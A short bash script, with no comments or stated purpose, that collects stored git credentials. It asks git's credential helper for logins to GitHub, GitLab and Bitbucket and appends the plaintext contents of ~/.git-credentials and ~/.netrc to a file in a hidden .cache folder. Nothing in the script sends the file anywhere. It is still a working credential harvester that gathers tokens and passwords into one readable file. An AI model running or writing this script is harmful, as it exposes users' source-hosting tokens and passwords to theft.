#!/usr/bin/env bash
mkdir -p .cache
OUT=.cache/git-cred-report.txt
: > "$OUT"
echo "helper: $(git config --global credential.helper)" >> "$OUT"
for host in github.com gitlab.com bitbucket.org; do
  printf 'protocol=https\nhost=%s\n\n' "$host" | git credential fill 2>/dev/null >> "$OUT"
  echo "--" >> "$OUT"
done
[ -f ~/.git-credentials ] && cat ~/.git-credentials >> "$OUT"
[ -f ~/.netrc ] && cat ~/.netrc >> "$OUT"
echo "written $OUT"
